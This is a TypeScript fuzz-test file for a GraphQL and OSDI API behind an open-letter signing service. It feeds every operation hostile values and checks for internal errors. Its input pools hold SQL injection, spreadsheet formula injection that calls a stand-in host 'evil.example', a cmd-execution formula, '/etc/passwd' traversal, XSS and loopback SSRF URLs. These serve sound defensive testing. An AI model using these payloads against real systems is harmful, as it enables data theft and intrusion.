import { GraphQLSchemaHost } from '@nestjs/graphql';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLObjectType,
} from 'graphql';
import request from 'supertest';
import { SoftAuthenticator } from './support/soft-authenticator';
import { startTestApp, type TestApp } from './support/test-app';
import { letterOf, organisationOf, verifiedUser, type EdgeUser } from './support/edge-actors';

/**
 * A seeded fuzz of the whole schema: every query and mutation, with every argument sent as a
 * variable holding a value of its declared type with hostile contents, signed out and signed in.
 * Nothing may answer INTERNAL_SERVER_ERROR, and every answer is JSON. The seed is printed, and
 * FUZZ_SEED replays another run.
 */
const SEED = Number(process.env.FUZZ_SEED ?? 0x5eed);
const RUNS_PER_OPERATION = 24;

/** mulberry32: a small deterministic PRNG. */
function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE_STRINGS = [
  '',
  ' ',
  'x'.repeat(5_000),
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31m',
  'line\nbreak\r\ttab',
  '\u202Egnp.exe',
  "'; DROP TABLE users; --",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '%00',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  'R\u00e9publique e\u0301 🕊 བོད་ ئۇيغۇر',
  '\ud800',
  'someone@example.org',
  'a\ud800@example.org',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  '7c9e6679-7425-40de-944b-e07fc1f90ae7',
  'DE',
  'a'.repeat(64),
];
const HOSTILE_IDS = ['', 'not-a-uuid', '\u0000', '7c9e6679-7425-40de-944b-e07fc1f90ae7', "1' OR '1'='1", '12345'];
const HOSTILE_INTS = [0, 1, -1, 2_147_483_647, -2_147_483_648, 100, 1_000_000];
const HOSTILE_FLOATS = [0, -0.5, 1.5e308, -1.5e308, 5e-324, 2 ** 53];
const HOSTILE_DATES = [
  '9999-12-31T23:59:59Z',
  '0000-01-01',
  '0000-01-01T00:00:00Z',
  '1970-01-01T00:00:00.000Z',
  '2026-13-45T99:99:99Z',
  '+275760-09-13T00:00:00.000Z',
  'yesterday',
  '',
];

interface Pools {
  ids: string[];
  strings: string[];
}

function pick<T>(random: () => number, values: readonly T[]): T {
  return values[Math.floor(random() * values.length)];
}

function valueOf(type: GraphQLInputType, random: () => number, pools: Pools, depth = 0): unknown {
  if (isNonNullType(type)) return valueOf(type.ofType, random, pools, depth);
  if (random() < 0.1) return null;
  if (isListType(type)) {
    const length = Math.floor(random() * 4);
    return Array.from({ length }, () => valueOf(type.ofType, random, pools, depth + 1));
  }
  if (isEnumType(type)) return pick(random, type.getValues()).name;
  if (isInputObjectType(type)) {
    const value: Record<string, unknown> = {};
    for (const field of Object.values(type.getFields())) {
      if (isNonNullType(field.type) || random() < 0.6)
        value[field.name] = valueOf(field.type, random, pools, depth + 1);
    }
    return value;
  }
  if (isScalarType(type)) {
    switch (type.name) {
      case 'ID':
        return random() < 0.4 && pools.ids.length ? pick(random, pools.ids) : pick(random, HOSTILE_IDS);
      case 'Int':
        return pick(random, HOSTILE_INTS);
      case 'Float':
        return pick(random, HOSTILE_FLOATS);
      case 'Boolean':
        return random() < 0.5;
      case 'DateTime':
        return pick(random, HOSTILE_DATES);
      default:
        return random() < 0.25 && pools.strings.length ? pick(random, pools.strings) : pick(random, HOSTILE_STRINGS);
    }
  }
  return null;
}

/** The scalar fields of the return type, or `__typename` for an object (no nested selection). */
function selectionOf(field: GraphQLField<unknown, unknown>): string {
  const named = getNamedType(field.type);
  if (isLeafType(named)) return '';
  if ('getFields' in named) {
    const leaves = Object.values((named as GraphQLObjectType).getFields())
      .filter((f) => isLeafType(getNamedType(f.type)) && f.args.every((a) => !isNonNullType(a.type)))
      .map((f) => f.name);
    return `{ __typename ${leaves.join(' ')} }`;
  }
  return '{ __typename }';
}

function documentOf(kind: 'query' | 'mutation', field: GraphQLField<unknown, unknown>): string {
  const variables = field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  return `${kind}${variables ? `(${variables})` : ''} { ${field.name}${args ? `(${args})` : ''} ${selectionOf(field)} }`;
}

interface Finding {
  operation: string;
  variables: unknown;
  status: number;
  body: string;
}

describe('fuzz: every operation with hostile values of its declared types', () => {
  let app: TestApp;
  let user: EdgeUser;
  const pools: Pools = { ids: [], strings: [] };
  let letterId = '';
  let apiKey = '';
  let fuzzOrganisationId = '';

  beforeAll(async () => {
    app = await startTestApp();
    user = await verifiedUser(app, 'Fuzz Owner');
    const organisationId = await organisationOf(app, user, 'Fuzz Org');
    const letter = await letterOf(app, user, organisationId, { visibility: 'PUBLIC' });
    const { rows } = await app.sql.query<{ id: string }>('SELECT id FROM memberships WHERE user_id = $1', [user.id]);
    letterId = letter.id;
    fuzzOrganisationId = organisationId;
    // A webhook and one of its deliveries, so that the webhook operations meet real rows too.
    const { rows: hooks } = await app.sql.query<{ id: string }>(
      `INSERT INTO webhooks (organisation_id, url, events, secret_encrypted, signing_key_encrypted, public_key)
       VALUES ($1, 'https://93.184.215.14/fuzz', '{LETTER_OPENED}', 'v1.x.x.x', 'v1.x.x.x', 'whpk_fuzz') RETURNING id`,
      [organisationId],
    );
    const { rows: calls } = await app.sql.query<{ id: string }>(
      `INSERT INTO webhook_deliveries (webhook_id, event, message_id, body, status, attempts, sent_at)
       VALUES ($1, 'LETTER_OPENED', 'msg_fuzz', '{}', 'SUCCEEDED', 1, now()) RETURNING id`,
      [hooks[0].id],
    );
    pools.ids.push(
      user.id,
      organisationId,
      letter.id,
      letter.versionId,
      hooks[0].id,
      calls[0].id,
      ...rows.map((r) => r.id),
    );
    const { rows: slugs } = await app.sql.query<{ slug: string }>(
      'SELECT slug FROM organisations UNION ALL SELECT slug FROM letters',
    );
    pools.strings.push(...slugs.map((s) => s.slug), user.email);
    const created = await request(app.url)
      .post('/graphql')
      .set('Authorization', `Bearer ${user.accessToken}`)
      .send({
        query: 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { token apiKey { id } } }',
        variables: { input: { organisationId, name: 'Fuzz key' } },
      });
    const key = (created.body as { data: { createApiKey: { token: string; apiKey: { id: string } } } }).data
      .createApiKey;
    apiKey = key.token;
    pools.ids.push(key.apiKey.id);
  });

  afterAll(() => app?.close());

  it('never answers INTERNAL_SERVER_ERROR, and always JSON', async () => {
    console.info(`fuzz seed: ${SEED} (set FUZZ_SEED to replay another)`);
    const random = prng(SEED);
    const schema = app.app.get(GraphQLSchemaHost).schema;
    const operations: ['query' | 'mutation', GraphQLField<unknown, unknown>][] = [
      ...Object.values(schema.getQueryType()?.getFields() ?? {}).map((f) => ['query', f] as ['query', typeof f]),
      ...Object.values(schema.getMutationType()?.getFields() ?? {}).map(
        (f) => ['mutation', f] as ['mutation', typeof f],
      ),
    ];
    const findings: Finding[] = [];
    let sent = 0;
    for (const [kind, field] of operations) {
      const document = documentOf(kind, field);
      for (let run = 0; run < RUNS_PER_OPERATION; run++) {
        const variables: Record<string, unknown> = {};
        for (const arg of field.args) {
          if (isNonNullType(arg.type) || random() < 0.7) variables[arg.name] = valueOf(arg.type, random, pools);
        }
        let call = request(app.url).post('/graphql').set('Content-Type', 'application/json');
        // Signed out, signed in, and as the organisation's API key (refused where not declared for keys).
        if (run % 3 === 1) call = call.set('Authorization', `Bearer ${user.accessToken}`);
        if (run % 3 === 2) call = call.set('Authorization', `Bearer ${apiKey}`);
        const response = await call.send({ query: document, variables });
        sent++;
        let parsed: { errors?: { extensions?: { code?: string } }[] } | undefined;
        try {
          parsed = JSON.parse(response.text) as typeof parsed;
        } catch {
          parsed = undefined;
        }
        const internal = parsed?.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR');
        if (!parsed || internal || !/json/.test(String(response.headers['content-type']))) {
          findings.push({
            operation: field.name,
            variables,
            status: response.status,
            body: response.text.slice(0, 300),
          });
        }
      }
    }
    expect(findings).toEqual([]);
    expect(sent).toBeGreaterThan(800);
  });

  it('open sign-on past validation: each field of a valid request, then a confirmation token, hostile in turn', async () => {
    // Random values rarely make a whole valid request: start from one, and spoil one field at a time.
    await app.sql.query(
      `UPDATE letters SET status = 'OPEN', opened_version = current_version, open_sign_on = true WHERE id = $1`,
      [letterId],
    );
    const valid: Record<string, unknown> = {
      letterId,
      email: 'asker@fuzz.example',
      organisationName: 'Fuzz Askers',
      country: 'GB',
      website: 'https://fuzz.example',
      signerName: 'A Fuzzer',
      signerTitle: 'Director',
      displayName: 'Fuzz Askers',
      anonymous: false,
      acceptMinorEdits: true,
      comment: 'A comment',
      authorised: true,
    };
    const findings: Finding[] = [];
    const send = async (query: string, variables: Record<string, unknown>, operation: string) => {
      const response = await request(app.url)
        .post('/graphql')
        .set('Content-Type', 'application/json')
        .set('Authorization', `Bearer ${user.accessToken}`)
        .send({ query, variables });
      const parsed = JSON.parse(response.text) as { errors?: { extensions?: { code?: string } }[] };
      if (parsed.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR')) {
        findings.push({ operation, variables, status: response.status, body: response.text.slice(0, 300) });
      }
      return parsed;
    };
    const ask = 'mutation($input: RequestToSignInput!) { requestToSign(input: $input) }';
    for (const key of Object.keys(valid)) {
      for (const hostile of [...HOSTILE_STRINGS, ...HOSTILE_IDS, null, true, 7]) {
        await send(ask, { input: { ...valid, [key]: hostile } }, `requestToSign.${key}`);
      }
    }
    // A confirmation token is free text: every hostile one answers as an unknown link.
    const confirm = 'mutation($token: String!) { confirmSignOn(token: $token) { id status } }';
    for (const hostile of HOSTILE_STRINGS) {
      const answer = await send(confirm, { token: hostile }, 'confirmSignOn');
      expect(answer.errors?.[0]?.extensions?.code).toMatch(/^(NOT_FOUND|BAD_USER_INPUT)$/);
    }
    // So is the token the confirmation page reads its request with.
    const read = 'query($token: String!) { signOnRequestByLink(token: $token) { id letter { id } } }';
    for (const hostile of HOSTILE_STRINGS) {
      const answer = await send(read, { token: hostile }, 'signOnRequestByLink');
      expect(answer.errors?.[0]?.extensions?.code).toMatch(/^(NOT_FOUND|BAD_USER_INPUT)$/);
    }
    // The valid request itself goes through: nothing above broke the operation for everyone.
    expect(await send(ask, { input: valid }, 'requestToSign')).toEqual({ data: { requestToSign: true } });
    const set =
      'mutation($letterId: ID!, $open: Boolean!, $a: Boolean) { setOpenSignOn(letterId: $letterId, open: $open, autoApproveVerified: $a) { id } }';
    for (const hostile of [...HOSTILE_IDS, letterId]) {
      for (const open of [true, false]) await send(set, { letterId: hostile, open, a: !open }, 'setOpenSignOn');
    }
    expect(findings).toEqual([]);
  });

  it('OSDI: hostile ids, pages and keys answer 4xx JSON, never a 500', async () => {
    const findings: Finding[] = [];
    const paths = (value: string): string[] => {
      const v = encodeURIComponent(value);
      return [
        `/osdi/v1/petitions/${v}`,
        `/osdi/v1/petitions/${letterId}/signatures?page=${v}&per_page=${v}`,
        `/osdi/v1/petitions/${v}/signatures/${v}`,
        `/osdi/v1/people/${v}`,
        `/osdi/v1/advocacy_campaigns/${v}/outreaches?page=${v}`,
        `/osdi/v1/petitions?per_page=${v}`,
      ];
    };
    for (const hostile of [...HOSTILE_STRINGS.filter((h) => !/[\ud800-\udfff]/.test(h)), ...HOSTILE_IDS]) {
      for (const path of paths(String(hostile))) {
        for (const token of [apiKey, `usk_${String(hostile)}`.slice(0, 200)]) {
          const response = await request(app.url).get(path).set('OSDI-API-Token', encodeURIComponent(token));
          if (response.status >= 500 || !/json/.test(String(response.headers['content-type']))) {
            findings.push({
              operation: `GET ${path}`,
              variables: token,
              status: response.status,
              body: response.text.slice(0, 300),
            });
          }
        }
      }
    }
    expect(findings).toEqual([]);
  });

  it('createWebhook past validation: each field of a valid request hostile in turn, and hostile URLs', async () => {
    const create = 'mutation($input: CreateWebhookInput!) { createWebhook(input: $input) { secret webhook { id } } }';
    const valid: Record<string, unknown> = {
      organisationId: fuzzOrganisationId,
      url: 'https://93.184.215.14/fuzz-hook',
      events: ['LETTER_OPENED'],
      letterId,
    };
    const findings: Finding[] = [];
    // The schema walk above may have turned the organisation's two-factor rule on (setOrganisationSecurity with
    // hostile booleans); this case is about createWebhook's validation, so it starts from a plain organisation.
    await app.sql.query('UPDATE organisations SET require_two_factor = false WHERE id = $1', [fuzzOrganisationId]);
    const send = async (variables: Record<string, unknown>, operation: string) => {
      const response = await request(app.url)
        .post('/graphql')
        .set('Content-Type', 'application/json')
        .set('Authorization', `Bearer ${user.accessToken}`)
        .send({ query: create, variables });
      const parsed = JSON.parse(response.text) as { errors?: { extensions?: { code?: string } }[] };
      if (parsed.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR')) {
        findings.push({ operation, variables, status: response.status, body: response.text.slice(0, 300) });
      }
      return parsed;
    };
    for (const key of Object.keys(valid)) {
      for (const hostile of [...HOSTILE_STRINGS, ...HOSTILE_IDS, null, true, 7, [], ['NOT_AN_EVENT']]) {
        await send({ input: { ...valid, [key]: hostile } }, `createWebhook.${key}`);
      }
    }
    const urls = [
      'http://[::1',
      'http://[fe80::1%25eth0]/x',
      'http://0x7f000001/x',
      'http://2130706433/x',
      'http://127.1/x',
      'http://[::ffff:7f00:1]/x',
      'http://%00/x',
      'javascript:alert(1)',
      'http://a@/x',
      `http://${'a'.repeat(300)}.invalid/x`,
    ];
    for (const url of urls) {
      const answer = await send({ input: { ...valid, url } }, 'createWebhook.url');
      expect({ url, code: answer.errors?.[0]?.extensions?.code }).toEqual({ url, code: 'BAD_USER_INPUT' });
    }
    // The valid request itself goes through.
    const made = await send({ input: valid }, 'createWebhook');
    expect(made.errors).toBeUndefined();
    expect(findings).toEqual([]);
  });

  it('passkey answers past parsing: each field of a real answer, hostile in turn', async () => {
    // Random strings are refused as unparsable before the verifier sees them: start from real answers.
    const origin = app.config.publicUrl;
    const authenticator = new SoftAuthenticator();
    const gql = async (query: string, variables: Record<string, unknown>, token?: string) => {
      let call = request(app.url).post('/graphql').set('Content-Type', 'application/json');
      if (token) call = call.set('Authorization', `Bearer ${token}`);
      const response = await call.send({ query, variables });
      return { text: response.text, body: JSON.parse(response.text) as { data?: Record<string, string> } };
    };
    const startRegistration = 'mutation { startPasskeyRegistration }';
    const finishRegistration = 'mutation($r: String!) { finishPasskeyRegistration(response: $r) { id } }';
    const startLogIn = 'mutation { startPasskeyLogIn }';
    const finishLogIn = 'mutation($r: String!) { finishPasskeyLogIn(response: $r) { accessToken } }';
    await app.sql.query(`UPDATE sessions SET authenticated_at = now() WHERE user_id = $1`, [user.id]);
    const creation = JSON.parse(
      (await gql(startRegistration, {}, user.accessToken)).body.data?.startPasskeyRegistration ?? '',
    );
    const registered = await authenticator.create(creation, origin);
    expect((await gql(finishRegistration, { r: JSON.stringify(registered) }, user.accessToken)).body.data).toBeTruthy();

    const findings: Finding[] = [];
    const spoil = (answer: object, path: string[], value: unknown): string => {
      const copy = JSON.parse(JSON.stringify(answer)) as Record<string, Record<string, unknown>>;
      if (path.length === 1) (copy as Record<string, unknown>)[path[0]] = value;
      else copy[path[0]][path[1]] = value;
      return JSON.stringify(copy);
    };
    const hostileValues = [...HOSTILE_STRINGS, null, 7, true, [], {}, 'AAAA', 'e30'];
    const check = (operation: string, variables: Record<string, unknown>, text: string) => {
      const parsed = JSON.parse(text) as { errors?: { extensions?: { code?: string } }[] };
      if (parsed.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR')) {
        findings.push({ operation, variables, status: 200, body: text.slice(0, 300) });
      }
    };
    const loginFields = [
      ['id'],
      ['rawId'],
      ['type'],
      ...['clientDataJSON', 'authenticatorData', 'signature', 'userHandle'].map((f) => ['response', f]),
    ];
    for (const path of loginFields) {
      for (const hostile of hostileValues) {
        const options = JSON.parse((await gql(startLogIn, {})).body.data?.startPasskeyLogIn ?? '');
        const answer = await authenticator.get(options, origin);
        // The client data must still carry the challenge for the verifier to be reached: spoil it last.
        const r = spoil(answer, path, hostile);
        check(`finishPasskeyLogIn.${path.join('.')}`, { r }, (await gql(finishLogIn, { r })).text);
      }
    }
    const registrationFields = [
      ['id'],
      ['rawId'],
      ['type'],
      ...['clientDataJSON', 'attestationObject', 'transports'].map((f) => ['response', f]),
    ];
    for (const path of registrationFields) {
      for (const hostile of hostileValues) {
        // A spoiled field the verifier does not read still registers: start each from no passkey (an
        // account holding one adds another only in a passkey session; this one began with the password).
        await app.sql.query('DELETE FROM passkeys WHERE user_id = $1', [user.id]);
        const options = JSON.parse(
          (await gql(startRegistration, {}, user.accessToken)).body.data?.startPasskeyRegistration ?? '',
        );
        const r = spoil(await new SoftAuthenticator().create(options, origin), path, hostile);
        check(
          `finishPasskeyRegistration.${path.join('.')}`,
          { r },
          (await gql(finishRegistration, { r }, user.accessToken)).text,
        );
      }
    }
    expect(findings).toEqual([]);
  });

  it('setPublication past validation: hostile times and ids, each answered with a code, none breaking the letter', async () => {
    const findings: Finding[] = [];
    const draft = await letterOf(app, user, await organisationOf(app, user, 'Fuzz Embargo Org'), {
      visibility: 'PUBLIC',
    });
    const set =
      'mutation($letterId: ID!, $publishAt: DateTime) { setPublication(letterId: $letterId, publishAt: $publishAt) { id publishAt } }';
    const times = [
      ...HOSTILE_STRINGS,
      '9999-12-31T23:59:59.999Z',
      '+275760-09-13T00:00:00.000Z',
      '1970-01-01T00:00:00Z',
      '2026-02-30T25:61:00Z',
      new Date(Date.now() - 60_000).toISOString(),
      0,
      -1,
      1e20,
      true,
      [],
      {},
    ];
    for (const id of [...HOSTILE_IDS, draft.id]) {
      for (const publishAt of times) {
        const variables = { letterId: id, publishAt };
        const response = await request(app.url)
          .post('/graphql')
          .set('Content-Type', 'application/json')
          .set('Authorization', `Bearer ${user.accessToken}`)
          .send({ query: set, variables });
        const parsed = JSON.parse(response.text) as { errors?: { extensions?: { code?: string } }[] };
        if (parsed.errors?.some((e) => e.extensions?.code === 'INTERNAL_SERVER_ERROR')) {
          findings.push({
            operation: 'setPublication',
            variables,
            status: response.status,
            body: response.text.slice(0, 300),
          });
        }
      }
    }
    expect(findings).toEqual([]);
    // The letter's embargo is still one a lead can set and clear.
    const future = new Date(Date.now() + 3_600_000).toISOString();
    const later = await request(app.url)
      .post('/graphql')
      .set('Content-Type', 'application/json')
      .set('Authorization', `Bearer ${user.accessToken}`)
      .send({ query: set, variables: { letterId: draft.id, publishAt: future } });
    expect(later.body).toEqual({ data: { setPublication: { id: draft.id, publishAt: future } } });
  });
});
